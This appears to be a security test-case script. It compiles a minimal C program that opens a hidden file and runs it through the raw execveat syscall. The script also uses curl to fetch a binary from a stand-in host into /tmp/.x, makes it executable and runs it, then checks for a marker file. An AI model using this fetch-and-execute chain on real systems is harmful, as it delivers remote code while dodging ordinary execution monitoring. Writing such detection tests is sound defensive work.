#!/bin/sh
. /opt/case/case.sh

cat >/tmp/b.c <<'END'
static long call(long n, long a, long b, long c, long d, long e) {
    long r; register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory"); return r;
}
void _start(void) {
    static const char name[] = "/tmp/.x", none[] = "", *v[] = { "-", 0 };
    long f = call(257, -100, (long)name, 0, 0, 0); call(322, f, (long)none, (long)v, 0, 0x1000); call(60, 1, 0, 0, 0, 0);
}
END
gcc -nostdlib -static -fno-stack-protector -o /tmp/b /tmp/b.c
curl -s -o /tmp/.x http://203.0.113.10/programs/marker && chmod +x /tmp/.x
/tmp/b
test -e /tmp/reached
took_place
